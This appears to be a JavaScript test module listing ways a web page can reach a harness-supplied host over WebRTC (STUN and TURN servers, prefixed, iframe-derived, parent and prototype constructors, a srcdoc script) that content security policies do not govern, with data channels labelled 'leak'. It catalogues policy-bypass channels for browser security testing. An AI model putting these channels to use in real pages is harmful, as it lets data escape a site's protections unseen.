// Ways to send by WebRTC, which no directive of a policy governs.

import { group } from "./group.mjs";

const servers = {
  stun: (to) => ({ urls: `stun:${to.host}` }),
  "turn over UDP": (to) => ({ urls: `turn:${to.host}?transport=udp`, username: to.token, credential: to.token }),
  "turn over TCP": (to) => ({ urls: `turn:${to.host}?transport=tcp`, username: to.token, credential: to.token }),
};

const constructors = {
  RTCPeerConnection: () => window.RTCPeerConnection,
  webkitRTCPeerConnection: () => window.webkitRTCPeerConnection,
  "a fresh realm's RTCPeerConnection": (to) => to.add("iframe").contentWindow.RTCPeerConnection,
  "window[0]'s RTCPeerConnection": (to) => {
    to.add("iframe");
    return window[window.length - 1].RTCPeerConnection;
  },
  "the parent's RTCPeerConnection": () => parent.RTCPeerConnection,
  "the RTCPeerConnection of a prototype": () => Object.getPrototypeOf(window).RTCPeerConnection,
};

async function gather(Connection, server) {
  const connection = new Connection({ iceServers: [server] });
  connection.createDataChannel("leak");
  await connection.setLocalDescription(await connection.createOffer());
}

/** Every constructor with STUN, and the first with the other servers too. */
function combined() {
  const ways = {};
  for (const [name, find] of Object.entries(constructors)) {
    for (const [kind, server] of Object.entries(servers)) {
      if (kind !== "stun" && name !== "RTCPeerConnection") continue;
      ways[`${name}: ${kind}`] = `(to) => gather((${find})(to), (${server})(to))`;
    }
  }
  return ways;
}

export const realtime = group({ gather }, {
  ...combined(),
  RTCIceTransport: (to) => new window.RTCIceTransport().gather({ gatherPolicy: "all", iceServers: [{ urls: `stun:${to.host}` }] }),
  "RTCPeerConnection in a frame's script": (to) => {
    const code = `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:${to.host}" }] });
      c.createDataChannel("leak"); c.createOffer().then((offer) => c.setLocalDescription(offer))`;
    to.add("iframe", { srcdoc: `<script>${code}</${"script"}>` });
  },
});
